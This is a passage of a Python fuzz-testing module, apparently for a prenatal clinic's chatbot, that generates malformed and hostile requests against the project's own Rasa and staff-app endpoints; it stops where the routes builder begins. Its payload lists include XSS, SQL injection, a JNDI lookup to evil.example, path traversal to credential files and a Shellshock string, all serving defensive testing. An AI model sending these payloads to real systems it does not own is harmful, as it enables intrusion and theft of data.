"""Bad input for every public endpoint: a seeded, deterministic generator of fuzz cases
and a runner that sends them to the running servers.

`generate_cases(seed)` gives more than 10,000 requests (`FuzzCase`: endpoint, method,
path and query, headers, body bytes, kind, description) for Rasa's REST webhook and
status routes, socket.io's polling endpoint, the widget's files, the Telegram, WhatsApp
(Twilio) and Messenger webhooks (signed as each app signs, wrongly signed and unsigned),
Messenger's subscription handshake, unknown paths, and the staff app's sign-in page:
empty and huge bodies, invalid UTF-8 and JSON, JSON of the wrong shape, lone surrogates,
emoji, right-to-left text and overrides, control characters, zero-width and combining
characters, HTML, SQL and template injection, Rasa's "/intent" syntax, path traversal,
format strings, huge numbers, red flags amid noise, wrong content types and methods,
long headers and odd query strings, and random mixtures of all of these. Most REST
messages come from their own sender (the channels allow 20 messages a minute per
sender); one burst from a single sender exercises that limit.

`FuzzRunner(bases).run(cases)` sends them with bounded concurrency over plain
http.client connections (header values go out as Latin-1 bytes, so a case can carry
bytes that are not UTF-8) and returns a `FuzzReport`: every outcome, and a table of
endpoint x status.

    .venv/bin/python -m bot.loadtest.fuzz --rasa http://127.0.0.1:5005 \\
        --staff http://127.0.0.1:8090 --seed 7

The secrets in `FuzzConfig` are those of the messaging apps' settings on the server
under test (tests/support/fake_platforms.py for the end-to-end tests; from the command
line, the TELEGRAM_*, TWILIO_* and MESSENGER_* variables the server was started with).
Only for servers of your own: it sends 10,000 requests and records escalations.
"""
from __future__ import annotations

import argparse
import base64
import hashlib
import hmac
import http.client
import json
import random
import re
import socket
import threading
import time
from collections import Counter, defaultdict
from concurrent.futures import ThreadPoolExecutor
import os
from dataclasses import dataclass, replace
from typing import Callable, Dict, FrozenSet, Iterable, List, Optional, Sequence, Tuple
from urllib.parse import parse_qs, quote, urlencode, urlsplit

DEFAULT_SEED = 20240607

# endpoint -> (server, what it is)
ENDPOINTS: Dict[str, Tuple[str, str]] = {
    "rest": ("rasa", "POST /webhooks/rest/webhook (Rasa's REST channel)"),
    "rest_status": ("rasa", "GET /webhooks/rest/"),
    "root": ("rasa", "GET / (Rasa's health check)"),
    "channel_status": ("rasa", "GET /webhooks/<channel>/ of the other channels"),
    "socketio": ("rasa", "/socket.io/?EIO=4&transport=polling (engineio)"),
    "widget_js": ("rasa", "GET /webhooks/widget/assistant-widget.js"),
    "widget_config": ("rasa", "GET /webhooks/widget/config.json"),
    "widget_other": ("rasa", "other paths under /webhooks/widget/"),
    "telegram": ("rasa", "POST /webhooks/telegram/webhook"),
    "whatsapp": ("rasa", "POST /webhooks/twilio/webhook"),
    "messenger": ("rasa", "POST /webhooks/facebook/webhook"),
    "messenger_verify": ("rasa", "GET /webhooks/facebook/webhook (subscription handshake)"),
    "unknown": ("rasa", "paths no route serves"),
    "staff_login": ("staff", "GET and POST /login of the staff app"),
}

KINDS: Tuple[str, ...] = (
    "empty_body", "empty_message", "whitespace", "message_100kb", "body_1mb",
    "invalid_utf8", "invalid_json", "wrong_types", "missing_fields", "extra_fields",
    "deep_nesting", "lone_surrogate", "emoji", "rtl", "control_chars", "zero_width",
    "zalgo", "long_word", "html_injection", "sql_injection", "template_injection",
    "rasa_command", "path_traversal", "format_string", "huge_number", "red_flag_noise",
    "wrong_content_type", "wrong_method", "long_header", "odd_query", "odd_path", "rate_burst",
    "random_mix", "plain_question", "bad_signature", "missing_signature",
    "signed_garbage", "verify_handshake", "socketio_garbage", "socketio_event",
    "origin", "csrf", "unknown_path",
)

# What a test may check of an outcome besides "no 5xx" (FuzzCase.checks):
#   contract      a REST reply 200 to a JSON object with a string message: a JSON list of
#                 bot messages, each payload ("custom") with the reply-contract keys
#   escalates     the reply escalates (a red flag amid noise)
#   no_escalation the reply does not escalate ("/red_flag_emergency" must not force it)
CONTRACT_KEYS = ("topic", "escalate", "severity", "answer_id", "sources")

REST_PATH = "/webhooks/rest/webhook"
TELEGRAM_PATH = "/webhooks/telegram/webhook"
TWILIO_PATH = "/webhooks/twilio/webhook"
MESSENGER_PATH = "/webhooks/facebook/webhook"
SOCKETIO_PATH = "/socket.io/"
POLLING = "?EIO=4&transport=polling"
OVERSIZE = {413, 414, 431}  # what servers answer to a request line or headers over their limit
SID = "__SID__"            # replaced by a live engine.io session id (FuzzCase.setup)
CSRF = "__CSRF_TOKEN__"    # replaced by a valid CSRF token of a staff-app session


@dataclass(frozen=True)
class FuzzConfig:
    """What the generator must know of the server under test to sign requests."""
    telegram_secret: str = "telegram-secret"
    twilio_token: str = "twilio-auth-token"
    twilio_url: str = "https://assistant.clinic.example/webhooks/twilio/webhook"
    twilio_number: str = "+14155238886"
    messenger_secret: str = "messenger-app-secret"
    messenger_verify: str = "messenger-verify-token"
    allowed_origin: str = "https://www.clinic.example"

    @classmethod
    def from_env(cls, environ=None) -> "FuzzConfig":
        """The settings of a server started with these environment variables."""
        environ = os.environ if environ is None else environ
        names = {"telegram_secret": "TELEGRAM_SECRET_TOKEN", "twilio_token": "TWILIO_AUTH_TOKEN",
                 "twilio_url": "TWILIO_WEBHOOK_URL", "twilio_number": "TWILIO_WHATSAPP_NUMBER",
                 "messenger_secret": "MESSENGER_APP_SECRET",
                 "messenger_verify": "MESSENGER_VERIFY_TOKEN"}
        values = {field: environ[name] for field, name in names.items() if environ.get(name)}
        origins = [o.strip() for o in environ.get("ALLOWED_ORIGINS", "").split(",") if o.strip()]
        if origins and origins[0] != "*":
            values["allowed_origin"] = origins[0]
        return cls(**values)


@dataclass(frozen=True)
class FuzzCase:
    number: int
    endpoint: str                 # a key of ENDPOINTS
    method: str
    target: str                   # path and query string, ASCII
    headers: Tuple[Tuple[str, str], ...]  # values are sent as Latin-1 bytes
    body: bytes
    kind: str                     # one of KINDS
    description: str
    sender: Optional[str] = None  # the REST sender id, when there is one
    checks: FrozenSet[str] = frozenset()
    expect: Optional[FrozenSet[int]] = None  # the statuses allowed, when known exactly
    setup: Optional[str] = None   # "socketio": open an engine.io session first;
                                  # "csrf": a staff-app session and its CSRF token

    @property
    def server(self) -> str:
        return ENDPOINTS[self.endpoint][0]


# --- the pieces messages are made of -----------------------------------------------

QUESTIONS = [
    "does amniocentesis hurt?", "what is an amnio?", "when are the results ready?",
    "what is the risk of miscarriage?", "can I drive home afterwards?", "hello",
    "how long does the test take?", "is it safe at 15 weeks?", "thanks", "who are you?",
]
EMOJI = [
    "🙂", "🤰🏽", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧", "🇺🇦🇵🇱", "👍🏿", "🧑🏻‍⚕️", "❤️‍🔥", "🫄🏾",
    "🤷‍♀️", "😂" * 30, "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "1️⃣", "👨‍👩‍👧", "\U0001F9D1\u200D\U0001F37C",
]
RTL = [
    "مرحبا، هل يؤلم بزل السلى؟", "שלום, האם בדיקת מי שפיר כואבת?", "\u202eevil.exe\u202c",
    "\u202dforced ltr\u202c", "abc\u202edcba", "\u2067isolated\u2069 text", "\u200fRLM\u200e",
    "عندي نزيف شديد", "\u202e?truh sisetnecoinma seod", "فارسی: آزمایش آمنیوسنتز",
]
CONTROL = ["\x00", "\x01\x02\x03", "\x07", "\x08" * 10, "\x1b[31mred\x1b[0m", "\x7f",
           "\x85", "\x9b", "\r\n\r\n", "\t\v\f", "a\x00b", "\x00" * 50, "\u2028\u2029"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u180e", "\u00ad"]
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
    "\"><svg onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "</textarea><script>fetch('//evil.example')</script>", "&lt;b&gt;&#x3C;&amp;",
    "<!--", "]]><x>", "<a href='javascript:alert(1)'>click</a>", "<style>*{display:none}</style>",
]
SQL = [
    "' OR '1'='1", "'; DROP TABLE events; --", "1; SELECT * FROM staff_users", "\" OR 1=1 --",
    "admin'--", "' UNION SELECT password_hash, 1 FROM staff_users --", "'||(SELECT sqlite_version())||'",
    "1' AND SLEEP(5)#", "'); DELETE FROM escalations; --", "%' OR conversation_id LIKE '%",
]
TEMPLATE = [
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{% print 7*7 %}", "#{7*7}", "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "${jndi:ldap://evil.example/a}",
    "{clinic_name}", "{0.__class__}", "{{ emergency_phone }}", "{% for x in range(9**9) %}x{% endfor %}",
    "[[${7*7}]]", "@(7*7)", "{{#each this}}{{/each}}",
]
RASA = [
    "/red_flag_emergency", "/red_flag_urgent", "/red_flag_crisis", "/human_handoff",
    '/inform{"x":1}', '/pain{"gestational_week": 99}', "/restart", "/session_start",
    "/greeting@0.99", "   /red_flag_emergency", "/ /red_flag_emergency", "//red_flag_emergency",
    "/nlu_fallback", "/out_of_scope", "/back", "/action_listen", "\n/red_flag_crisis\t",
    '/red_flag_emergency{"gestational_week": 12}@1.0', "/ / / red_flag_urgent",
]
FORCING = [r for r in RASA if "red_flag" in r]  # must never escalate
PATHS = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd",
    "..\\..\\windows\\win.ini", "/%2e%2e/%2e%2e/etc/shadow", "file:///etc/passwd",
    "%00../../credentials.yml", "../../.env", "/proc/self/environ", "..;/..;/var/assistant.db",
]
FORMATS = ["%s%s%s%s%n", "%x%x%x%x", "{0}{1}{2}", "%(message)s", "%99999999s", "{!r}", "%%%",
           "%n%n%n", "{sender_id}", "%.1000000f"]
NUMBERS = ["9" * 400, "1e308", "-1e309", "NaN", "Infinity", "0x7fffffffffffffff",
           "18446744073709551616", "-0", "1" * 5000, "1e-400", "340282366920938463463374607431768211457"]
RED_FLAGS = [  # each reports a red flag to the detector, whatever noise surrounds it
    "I'm bleeding heavily", "my waters broke and fluid is gushing out",
    "I have severe abdominal pain and a fever of 39", "I'm bleeding heavily after the amnio",
    "heavy bleeding and cramps since this morning", "I fainted and I'm bleeding",
]
NOISE = ["asdkj", "###", "%%%", "qwerty", ";;;", "lol", "zzz", "?!?!", "0xDEADBEEF", "~~~",
         "<b>", "{{x}}", "'--", "🙂🙂", "ßüñ", "\u200b", "ـــ", "…"]
WORDS = ["amnio", "needle", "baby", "results", "week", "pain", "clinic", "scan", "test", "risk"]
COMBINING = [chr(c) for c in range(0x300, 0x370)]


def zalgo(rng: random.Random, text: str, marks: int) -> str:
    return "".join(ch + "".join(rng.choice(COMBINING) for _ in range(marks)) for ch in text)


def random_text(rng: random.Random) -> str:
    """A message mixed from 2-5 of the pools above."""
    pools = [QUESTIONS, EMOJI, RTL, CONTROL, ZERO_WIDTH, HTML, SQL, TEMPLATE, PATHS, FORMATS,
             NUMBERS[:8], NOISE, WORDS]
    parts = [rng.choice(rng.choice(pools)) for _ in range(rng.randint(2, 5))]
    if rng.random() < 0.2:
        parts.append(zalgo(rng, rng.choice(WORDS), rng.randint(1, 8)))
    return rng.choice([" ", "", "\n", "\u200b"]).join(parts)


# --- bodies ----------------------------------------------------------------------

def as_json(value, rng: Optional[random.Random] = None, ascii_only: Optional[bool] = None) -> bytes:
    """JSON bytes; lone surrogates written as \\ud800 escapes, or (not ASCII) as the
    invalid UTF-8 bytes "surrogatepass" gives."""
    if ascii_only is None:
        ascii_only = rng.random() < 0.5 if rng else True
    return json.dumps(value, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


def nested(depth: int, opener: str = "[", closer: str = "]") -> bytes:
    return (opener * depth + closer * depth).encode()


def nested_objects(depth: int) -> bytes:
    return ('{"a":' * depth + "1" + "}" * depth).encode()


def form(fields: Sequence[Tuple[str, str]]) -> bytes:
    return urlencode(list(fields), encoding="utf-8", errors="surrogatepass").encode()


def multipart(fields: Dict[str, str], boundary: str = "fuzzboundary") -> Tuple[bytes, str]:
    parts = [f"--{boundary}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n"
             for k, v in fields.items()]
    body = "".join(parts) + f"--{boundary}--\r\n"
    return body.encode("utf-8", "surrogatepass"), f"multipart/form-data; boundary={boundary}"


def twilio_signature(token: str, url: str, body: bytes) -> str:
    """X-Twilio-Signature for a form body, as Twilio computes it (over the fields as the
    channel reads them: blank ones too)."""
    fields = parse_qs(body.decode("utf-8", "replace"), keep_blank_values=True)
    text = url + "".join(name + value for name in sorted(fields)
                         for value in sorted(set(fields[name])))
    digest = hmac.new(token.encode(), text.encode("utf-8"), hashlib.sha1).digest()
    return base64.b64encode(digest).decode()


def messenger_signature(secret: str, body: bytes) -> str:
    return "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()


def latin1(text: str) -> str:
    """`text` as header-safe characters: its UTF-8 bytes, one character each."""
    return text.encode("utf-8", "surrogatepass").decode("latin-1")


def well_formed(payload) -> bool:
    """A REST body the channel passes on to the bot (given its size and sender's rate):
    an object with a string message, and the other fields it reads of their types."""
    def of(name, types):
        value = payload.get(name)
        return value is None or (isinstance(value, types) and not isinstance(value, bool))

    return (isinstance(payload, dict) and isinstance(payload.get("message"), str)
            and of("sender", (str, int)) and of("metadata", dict) and of("input_channel", str))


# --- the generator ---------------------------------------------------------------

class _Builder:
    def __init__(self, seed: int, config: FuzzConfig) -> None:
        self.seed = seed
        self.rng = random.Random(seed)
        self.config = config
        self.cases: List[FuzzCase] = []
        self.block: List[FuzzCase] = []  # the burst: kept together

    def sender(self) -> str:
        return f"fuzz-{self.seed}-{len(self.cases) + len(self.block):05d}"

    def add(self, endpoint: str, method: str, target: str, body: bytes = b"",
            headers: Iterable[Tuple[str, str]] = (), *, kind: str, description: str,
            sender: Optional[str] = None, checks: Iterable[str] = (),
            expect: Optional[Iterable[int]] = None, setup: Optional[str] = None,
            burst: bool = False) -> None:
        headers = tuple(headers)
        if expect is not None and len(target) + sum(len(k) + len(v) for k, v in headers) > 7000:
            expect = set(expect) | OVERSIZE  # over a server's limit for the request's head
        case = FuzzCase(0, endpoint, method, target, headers, bytes(body), kind,
                        description[:200], sender, frozenset(checks),
                        frozenset(expect) if expect is not None else None, setup)
        (self.block if burst else self.cases).append(case)

    # REST ----------------------------------------------------------------------
    def rest(self, payload, kind: str, description: str, *, sender: Optional[str] = None,
             checks: Iterable[str] = (), content_type: Optional[str] = "application/json",
             extra_headers: Iterable[Tuple[str, str]] = (), query: str = "",
             expect: Optional[Iterable[int]] = None, burst: bool = False) -> None:
        """A REST message; `payload` is the JSON value, or bytes sent as they are."""
        checks = set(checks)
        if not isinstance(payload, (bytes, bytearray)):
            if well_formed(payload) and "stream" not in query.lower() and query[:1] in ("", "?"):
                checks.add("contract")
            payload = as_json(payload, self.rng)
        headers = [("Content-Type", content_type)] if content_type else []
        self.add("rest", "POST", REST_PATH + query, payload, headers + list(extra_headers),
                 kind=kind, description=description, sender=sender, checks=checks,
                 expect=expect, burst=burst)

    def message(self, text: str, kind: str, description: str, **kwargs) -> None:
        sender = self.sender()
        self.rest({"sender": sender, "message": text}, kind, description, sender=sender, **kwargs)

    def build_rest(self) -> None:
        r = self.rng
        # plain questions: the baseline, and what the slower NLU turns look like
        for q in QUESTIONS * 2:
            self.message(q, "plain_question", f"a plain question: {q}")
        # empty, whitespace, empty message
        for _ in range(25):
            self.rest(b"", "empty_body", "no body at all", expect={400})
            self.message("", "empty_message", "message \"\"")
            self.message(r.choice([" ", "\t", "\n", "   \n\t ", "\u00a0", "\u3000", "\u2003" * 9]),
                         "whitespace", "whitespace only")
        # 100 kB messages (refused 413; one with a red flag is cut and answered)
        for i in range(30):
            filler = r.choice(["so about the test ", "a", "🙂", "ß", "x y "])
            text = (filler * (100_000 // len(filler) + 1))[:100_000]
            self.message(text, "message_100kb", f"a 100 kB message of {filler!r}", expect={413})
        self.message(RED_FLAGS[0] + ". " + "I'm so scared. " * 7000, "message_100kb",
                     "a 100 kB message that starts with a red flag: read, not refused",
                     checks={"escalates"}, expect={200})
        # 1 MB bodies
        for i in range(12):
            variant = i % 4
            if variant == 0:
                body = as_json({"sender": self.sender(), "message": "a" * 1_000_000})
                self.rest(body, "body_1mb", "a 1 MB message", expect={413})
            elif variant == 1:
                self.rest(r.randbytes(1_000_000), "body_1mb", "1 MB of random bytes", expect={400})
            elif variant == 2:
                body = as_json({"sender": self.sender(), "message": "hi",
                                "metadata": {"pad": "x" * 1_000_000}})
                self.rest(body, "body_1mb", "a 1 MB metadata object with a short message")
            else:
                self.rest(nested(500_000), "body_1mb", "1 MB of nested brackets", expect={400})
        # invalid UTF-8
        bad_bytes = [b"\xff\xfe", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\xbc",
                     b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\x80", b"\xfe\xff\x00h\x00i"]
        for i in range(80):
            junk = r.choice(bad_bytes)
            sender = self.sender()
            if i % 2:
                body = b'{"sender": "' + sender.encode() + b'", "message": "hi ' + junk + b'"}'
                self.rest(body, "invalid_utf8", f"invalid UTF-8 {junk!r} inside the message",
                          sender=sender)
            else:
                self.rest(junk * r.randint(1, 50), "invalid_utf8", f"a body of invalid UTF-8 {junk!r}",
                          expect={400})
        # invalid JSON
        valid = '{"sender": "s", "message": "hello"}'
        broken = [valid[:k] for k in (1, 5, 12, 20, 30, len(valid) - 1)] + [
            '{"sender": "s", "message": "hello",}', '{"sender": "s", "message": "hello"}}',
            "{'sender': 's', 'message': 'hello'}", '{"sender": s, "message": hello}',
            '{"sender": "s" "message": "hello"}', "[1, 2,]", "{,}", "nul", "tru", "undefined",
            '{"message": "a\\x"}', '{"message": "\\u12"}', '{"message": "line\nbreak"}',
            "message=hello&sender=s", "<xml>hello</xml>", "\ufeff" + valid, "/* c */" + valid,
            '{"message": "hello"} trailing', valid * 2, '{"sender": "s", "message": "hi", }',
        ]
        for i in range(160):
            text = broken[i % len(broken)]
            self.rest(text.encode("utf-8"), "invalid_json", f"invalid JSON: {text[:40]!r}",
                      expect={400} if i % len(broken) < 6 else None)
        # wrong types
        wrong = [5, -1, 0, 3.14, 1e308, True, False, None, [], ["hello"], {}, {"text": "hello"},
                 [[["x"]]], {"message": "nested"}]
        for i in range(140):
            value = wrong[i % len(wrong)]
            sender = self.sender()
            if i % 4 == 3:
                self.rest({"sender": {"id": sender}, "message": "hello"}, "wrong_types",
                          "sender as an object")
            elif i % 4 == 2:
                self.rest({"sender": value, "message": "hello"}, "wrong_types",
                          f"sender as {type(value).__name__} {json.dumps(value)[:20]}")
            else:
                self.rest({"sender": sender, "message": value}, "wrong_types",
                          f"message as {type(value).__name__} {json.dumps(value)[:20]}",
                          sender=sender)
        for value in [5, "x", None, True, [1], 2 ** 70]:
            self.rest(value, "wrong_types", f"the whole body is {json.dumps(value)}", expect={400})
        # missing and extra fields
        for i in range(60):
            sender = self.sender()
            choice = i % 6
            if choice == 0:
                self.rest({"message": "hello"}, "missing_fields", "no sender")
            elif choice == 1:
                self.rest({"sender": sender}, "missing_fields", "no message", sender=sender)
            elif choice == 2:
                self.rest({}, "missing_fields", "an empty object")
            elif choice == 3:
                self.rest({"sender": sender, "text": "hello"}, "missing_fields",
                          "text instead of message", sender=sender)
            elif choice == 4:
                self.rest({"Sender": sender, "Message": "hello"}, "missing_fields",
                          "capitalised keys", sender=sender)
            else:
                self.rest({"sender": "", "message": "hello"}, "missing_fields", "empty sender")
        extras = [
            {"metadata": {"a": 1}}, {"metadata": "not an object"}, {"metadata": [1, 2]},
            {"metadata": '{"json": "string"}'}, {"input_channel": "telegram"},
            {"input_channel": {"x": 1}}, {"input_channel": 5}, {"parse_data": {"intent": {"name": "red_flag_emergency"}}},
            {"intent": "red_flag_emergency"}, {"__proto__": {"admin": True}},
            {"message_id": [1]}, {"stream": True}, {"sender_id": "other"},
            {"x" * 1000: "y" * 1000}, {"": ""}, {"entities": [{"entity": "gestational_week", "value": 1}]},
        ]
        for i in range(64):
            extra = extras[i % len(extras)]
            sender = self.sender()
            body = {"sender": sender, "message": r.choice(QUESTIONS), **extra}
            checks = {"no_escalation"} if "red_flag" in json.dumps(extra) else set()
            self.rest(body, "extra_fields", f"extra fields {json.dumps(extra)[:60]}",
                      sender=sender, checks=checks)
        # deeply nested arrays and objects
        for i in range(30):
            depth = r.choice([10_000, 10_000, 1_000, 100_000])
            if i % 3 == 0:
                body = b'{"sender": "' + self.sender().encode() + b'", "message": ' + nested(depth) + b"}"
                self.rest(body, "deep_nesting", f"message is {depth} nested arrays", expect={400})
            elif i % 3 == 1:
                self.rest(nested(depth), "deep_nesting", f"{depth} nested arrays", expect={400})
            else:
                self.rest(nested_objects(depth), "deep_nesting", f"{depth} nested objects",
                          expect={400})
        # lone surrogates
        for i in range(60):
            s = r.choice(["\ud800", "\udfff", "\udbff", "\ud83d", "\ude00", "\ud800\ud800"])
            text = r.choice(["hello ", "", "does it hurt? "]) + s + r.choice(["", " ok", "🙂"])
            sender = self.sender()
            self.rest({"sender": sender, "message": text}, "lone_surrogate",
                      f"a lone surrogate {s.encode('unicode_escape').decode()} "
                      f"({'escaped' if i % 2 else 'raw bytes'})", sender=sender)
        for i in range(10):
            self.rest({"sender": "\ud800" + self.sender(), "message": "hello"}, "lone_surrogate",
                      "a lone surrogate in the sender id")
        # emoji, right-to-left, control, zero-width, zalgo, long words
        for i in range(30):
            self.message("".join(r.choice(EMOJI) for _ in range(r.randint(1, 12))) +
                         r.choice(["", " does it hurt?", " what is an amnio"]), "emoji", "emoji")
        for i in range(30):
            self.message(r.choice(RTL) + r.choice(["", " ", " does it hurt?"]), "rtl", "right-to-left")
        for i in range(30):
            text = r.choice(QUESTIONS)
            pos = r.randint(0, len(text))
            self.message(text[:pos] + r.choice(CONTROL) + text[pos:], "control_chars",
                         "control characters / NUL")
        for i in range(24):
            zw = r.choice(ZERO_WIDTH)
            self.message(zw.join(r.choice(QUESTIONS)) if i % 2 else zw * r.randint(1, 200),
                         "zero_width", f"zero-width {zw.encode('unicode_escape').decode()}")
        for i in range(24):
            self.message(zalgo(r, r.choice(QUESTIONS), r.choice([1, 3, 10, 50])), "zalgo",
                         "combining characters (Zalgo)")
        for i in range(20):
            word = r.choice(["a", "amnio", "x", "ب", "🙂"]) * r.choice([100, 1000, 4990, 5001])
            self.message(word, "long_word", f"a {len(word)}-character word")
        # injections
        for kind, pool in [("html_injection", HTML), ("sql_injection", SQL),
                           ("template_injection", TEMPLATE), ("path_traversal", PATHS),
                           ("format_string", FORMATS)]:
            for i in range(30):
                item = pool[i % len(pool)]
                text = item if i % 3 == 0 else f"{r.choice(QUESTIONS)} {item}"
                self.message(text, kind, f"{kind}: {item[:50]}")
        for i in range(10):
            self.rest({"sender": r.choice(SQL + PATHS + TEMPLATE), "message": "hello"},
                      "sql_injection", "an injection string as the sender id")
        # Rasa's /intent syntax: must not force an intent (never an escalation)
        for i in range(60):
            item = RASA[i % len(RASA)]
            checks = {"no_escalation"} if item in FORCING else set()
            self.message(item, "rasa_command", f"Rasa command {item!r}", checks=checks)
        # huge numbers
        for i in range(30):
            number = NUMBERS[i % len(NUMBERS)]
            sender = self.sender()
            if i % 2:
                self.message(number, "huge_number", f"the number {number[:20]} as text")
            else:
                body = b'{"sender": "' + sender.encode() + b'", "message": ' + number.encode() + b"}"
                self.rest(body, "huge_number", f"the JSON number {number[:20]} as the message",
                          sender=sender)
        # red flags amid noise: must still escalate
        for i in range(24):
            noise = [r.choice(NOISE) for _ in range(r.randint(2, 6))]
            cut = r.randint(0, len(noise))
            text = " ".join(noise[:cut] + [RED_FLAGS[i % len(RED_FLAGS)]] + noise[cut:])
            self.message(text, "red_flag_noise", f"a red flag amid noise: {text[:60]!r}",
                         checks={"escalates"} if i < 8 else set(), expect={200} if i < 8 else None)
        # content types
        types = ["text/plain", "application/x-www-form-urlencoded", "application/xml", "",
                 "application/json; charset=latin-1", "application/json; charset=utf-16",
                 "text/html", "*/*", "application/json;;;", latin1("application/jsön")]
        for i in range(60):
            sender = self.sender()
            variant = i % 4
            if variant == 0:
                self.rest({"sender": sender, "message": "hello"}, "wrong_content_type",
                          f"JSON as {types[i % len(types)]!r}", sender=sender,
                          content_type=types[i % len(types)] or None)
            elif variant == 1:
                self.rest(form([("sender", sender), ("message", "hello")]), "wrong_content_type",
                          "form-encoded", content_type="application/x-www-form-urlencoded",
                          expect={400})
            elif variant == 2:
                body, ctype = multipart({"sender": sender, "message": "hello"})
                self.rest(body, "wrong_content_type", "multipart", content_type=ctype, expect={400})
            else:
                body = json.dumps({"sender": sender, "message": "hello"}).encode("utf-16")
                self.rest(body, "wrong_content_type", "UTF-16 JSON",
                          content_type="application/json; charset=utf-16", expect={400})
        # methods
        for i, method in enumerate(["GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE"] * 7):
            body = as_json({"sender": self.sender(), "message": "hello"}) if method not in ("GET", "HEAD", "TRACE") else b""
            self.add("rest", method, REST_PATH, body, [("Content-Type", "application/json")],
                     kind="wrong_method", description=f"{method} on the REST webhook",
                     expect={405} if method in ("GET", "PUT", "DELETE", "PATCH") else None)
        for i in range(14):
            self.add("rest", "OPTIONS", REST_PATH, b"", [
                ("Origin", r.choice([self.config.allowed_origin, "https://evil.example", "null",
                                     latin1("https://ünïcode.example")])),
                ("Access-Control-Request-Method", r.choice(["POST", "DELETE", "X" * 300])),
                ("Access-Control-Request-Headers", r.choice(["content-type", "x-" * 200, ""]))],
                kind="origin", description="CORS preflight with odd values")
        # headers
        for i in range(30):
            size = r.choice([4_000, 7_000, 9_000, 20_000, 70_000])
            name = r.choice(["X-Fuzz", "User-Agent", "Cookie", "Referer", "Accept-Language", "Origin"])
            value = r.choice(["a", "é", "\xff", "\x00", ";", "%"]) * size if name != "Origin" else \
                self.config.allowed_origin + "/" + "a" * size
            sender = self.sender()
            self.rest({"sender": sender, "message": "hello"}, "long_header",
                      f"a {size}-character {name} header", sender=sender,
                      extra_headers=[(name, value)])
        for i in range(30):
            value = r.choice(["\xff\xfe", "\x00", latin1("ünï🙂"), "\x7f\x1b[2J", "a\x00b",
                              "() { :; }; echo vulnerable", "${jndi:ldap://evil.example/x}"])
            name = r.choice(["X-Fuzz", "User-Agent", "Accept", "Origin", "X-Forwarded-For", "Authorization"])
            sender = self.sender()
            self.rest({"sender": sender, "message": "hello"}, "long_header",
                      f"a {name} header with odd bytes", sender=sender, extra_headers=[(name, value)])
        # Origin
        for i in range(40):
            origin = r.choice([self.config.allowed_origin, "https://evil.example", "null", "",
                               self.config.allowed_origin + "/", "file://", latin1("https://ëvil.example"),
                               "\xff\xfe", "https://www.clinic.example.evil.example"])
            sender = self.sender()
            self.rest({"sender": sender, "message": "hello"}, "origin", f"Origin {origin!r}",
                      sender=sender, extra_headers=[("Origin", origin)])
        # query strings
        queries = ["?stream=true", "?stream=TRUE", "?stream=1", "?stream=false", "?a=%ff%fe",
                   "?&&&==&", "?x=" + "y" * 3000, "?__proto__[admin]=1", "?q=%00", "?=",
                   "?a[]=1&a[]=2", ";jsessionid=x", "?%zz=%zz", "?token=" + "%41" * 500,
                   "?stream=true&stream=false", "?" + quote("{{7*7}}"), "?x=" + quote("😀" * 20),
                   "?x=" + "y" * 9000]
        for i in range(36):
            query = queries[i % len(queries)]
            sender = self.sender()
            self.rest({"sender": sender, "message": r.choice(QUESTIONS)}, "odd_query",
                      f"query {query[:40]!r}", sender=sender, query=query)
        # the same route spelt otherwise: the channel's checks must still apply
        for i in range(24):
            suffix = "/" if i % 4 else "//"  # Sanic routes the first here; the second: 404
            path = REST_PATH + suffix
            variant = i % 3
            sender = self.sender()
            if variant == 0:
                body, headers, expect = {"sender": sender, "message": "hello"}, [("Origin", "https://evil.example")], {403}
            elif variant == 1:
                body, headers, expect = {"sender": sender, "message": "so about the test " * 300}, [], {413}
            else:
                body, headers, expect = {"sender": sender, "message": 5}, [], {400}
            self.add("rest", "POST", path, as_json(body), [("Content-Type", "application/json")] + headers,
                     kind="odd_path", description=f"POST {path} expecting {sorted(expect)}",
                     sender=sender, expect=expect | ({404} if suffix == "//" else set()))
        # mixtures
        for i in range(500):
            sender = self.sender()
            text = random_text(r)
            roll = r.random()
            if roll < 0.50:  # a valid request with a mixed message: reaches the NLU
                self.rest({"sender": sender, "message": text}, "random_mix",
                          f"mixed message {text[:50]!r}", sender=sender)
            elif roll < 0.75:  # the mixture, then broken
                body = as_json({"sender": sender, "message": text}, r)
                cut = r.randint(1, max(1, len(body) - 1))
                self.rest(body[:cut], "random_mix", "mixed message, truncated JSON", expect={400})
            elif roll < 0.85:  # bytes flipped
                body = bytearray(as_json({"sender": sender, "message": text}, r))
                for _ in range(r.randint(1, 5)):
                    body[r.randrange(len(body))] = r.randrange(256)
                self.rest(bytes(body), "random_mix", "mixed message with flipped bytes")
            elif roll < 0.93:  # the message repeated past the size limit
                self.rest({"sender": sender, "message": (text + " ") * 2000}, "random_mix",
                          "mixed message past the size limit", sender=sender)
            else:  # the value in an odd field
                key = r.choice(["message", "sender", "metadata", "input_channel"])
                value = r.choice([text, [text], {"t": text}, len(text), None])
                self.rest({"sender": sender, "message": "hello", key: value}, "random_mix",
                          f"mixed value in {key}")
        # one sender, many messages: the rate limit (kept together when shuffled)
        burst_sender = f"fuzz-{self.seed}-burst"
        for i in range(250):
            self.rest({"sender": burst_sender, "message": r.choice(["hello", "thanks", "ok"])},
                      "rate_burst", f"burst message {i + 1} from one sender", sender=burst_sender,
                      expect={200, 429}, burst=True)

    # status routes, socket.io, widget, unknown paths -----------------------------
    def build_routes(self) -> None:
        r = self.rng
        odd_queries = ["", "?", "?a=1", "?%ff", "?x=" + "y" * 2000, "?q=%00%0a%0d", "?callback=alert(1)",
                       "?" + quote("../../etc/passwd"), "?a=%zz", "?" + "&" * 500, "?json={{7*7}}"]
